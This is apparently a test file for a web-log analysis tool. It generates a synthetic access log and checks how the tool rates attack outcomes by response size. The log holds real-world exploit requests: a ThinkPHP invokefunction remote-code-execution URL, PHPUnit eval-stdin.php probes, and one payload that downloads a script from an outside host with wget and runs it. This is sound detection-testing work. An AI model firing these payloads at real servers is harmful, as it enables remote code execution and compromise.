/**
 * Outcomes on a dynamic site (issue 12: "the size the same page normally has for benign requests"):
 * a home page whose size changes with every answer (8-90 KB, as a CMS's does), attacked with ThinkPHP's
 * invokefunction through `/index.php` and with PHPUnit's eval-stdin.php. The shape follows
 * ../shared/bench/genlog.mjs, whose truth calls a ThinkPHP answer the size of the home page failed and
 * a 20-40 byte answer (the command's output) succeeded.
 */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { mamori } from "../helpers/cli.ts";
import { tempDir } from "../helpers/tmp.ts";

const UA = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
];
const THINK =
  "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id";
const PHPUNIT = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php";

function line(i: number, ip: string, req: string, status: number, size: number, ua: string): string {
  const s = String(i % 60).padStart(2, "0");
  const m = String(Math.floor(i / 60) % 60).padStart(2, "0");
  const h = String(Math.floor(i / 3600) % 24).padStart(2, "0");
  return `${ip} - - [01/Mar/2024:${h}:${m}:${s} +0000] "${req} HTTP/1.1" ${status} ${size} "-" "${ua}"\n`;
}

interface Event {
  ip: string;
  attack: string;
  outcome: string;
  why: string;
  size: number;
}

test("a dynamic page's usual size is no success; a command's few bytes are; one URL from many bots is one payload", async (t) => {
  let seed = 7;
  const rnd = () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed;
  };
  let log = "";
  let i = 0;
  // Enough ordinary traffic for the reader's thin sample (one line in every 64 KB) to see the home page
  // answered at many sizes.
  while (log.length < 3 << 20) {
    const ip = `198.51.100.${rnd() % 200}`;
    const ua = UA[rnd() % UA.length] as string;
    if (rnd() % 10 < 7) log += line(i++, ip, "GET /", 200, 8000 + (rnd() % 82000), ua);
    else log += line(i++, ip, "GET /wp-content/themes/site/style.css", 200, 5321, ua);
    if (i === 9000) {
      // ThinkPHP answered with the home page (31,234 bytes: inside the spread visitors got from `/`).
      log += line(i++, "203.0.113.10", `GET ${THINK}`, 200, 31234, "Go-http-client/1.1");
      // ... and with the output of `id` (29 bytes).
      log += line(i++, "203.0.113.11", `GET ${THINK}`, 200, 29, "curl/7.68.0");
      // A framework's front controller in a folder no visitor asked for renders the same home page.
      log += line(i++, "203.0.113.12", `GET /public${THINK}`, 200, 30111, "Go-http-client/1.1");
      // Two different commands whose few bytes of output happen to be the same size: not "the page's
      // usual answer to any payload" (that size is nowhere near the home page's).
      log += line(
        i++,
        "203.0.113.13",
        `GET ${THINK.replace("vars[1][]=id", "vars[1][]=uname")}`,
        200,
        31,
        "curl/7.68.0",
      );
      log += line(
        i++,
        "203.0.113.14",
        `GET ${THINK.replace("vars[1][]=id", "vars[1][]=wget+http://198.51.100.9/setup.sh+-O+/tmp/s;sh+/tmp/s")}`,
        200,
        31,
        "python-requests/2.25.1",
      );
      // PHPUnit's payload is the POST body: three bots, one URL, the same 32-byte output.
      log += line(i++, "203.0.113.20", `POST ${PHPUNIT}`, 200, 32, "Mozilla/5.0 zgrab/0.x");
      log += line(i++, "203.0.113.21", `POST ${PHPUNIT}`, 200, 32, "python-requests/2.31.0");
      log += line(i++, "203.0.113.22", `POST ${PHPUNIT}`, 200, 32, "Go-http-client/1.1");
    }
  }
  const file = join(tempDir(t), "access.log");
  writeFileSync(file, log);
  const r = await mamori(["logs", "--format", "json", file]);
  assert.equal(r.code, 1, r.stderr);
  const events = JSON.parse(r.stdout).sections.logs.events as Event[];
  const of = (ip: string) => events.find((e) => e.ip === ip);
  assert.deepEqual(
    [of("203.0.113.10")?.outcome, of("203.0.113.10")?.why],
    ["unknown", "page-sized"],
    "the home page's usual size",
  );
  assert.equal(of("203.0.113.11")?.outcome, "succeeded", "the command's output");
  assert.deepEqual(
    [of("203.0.113.12")?.outcome, of("203.0.113.12")?.why],
    ["unknown", "page-sized"],
    "/public/index.php answered with the home page's usual size",
  );
  for (const ip of ["203.0.113.13", "203.0.113.14"])
    assert.equal(of(ip)?.outcome, "succeeded", `${ip}: ${of(ip)?.attack} ${of(ip)?.why}`);
  for (const ip of ["203.0.113.20", "203.0.113.21", "203.0.113.22"])
    assert.equal(of(ip)?.outcome, "succeeded", `PHPUnit from ${ip}: ${of(ip)?.why}`);
});
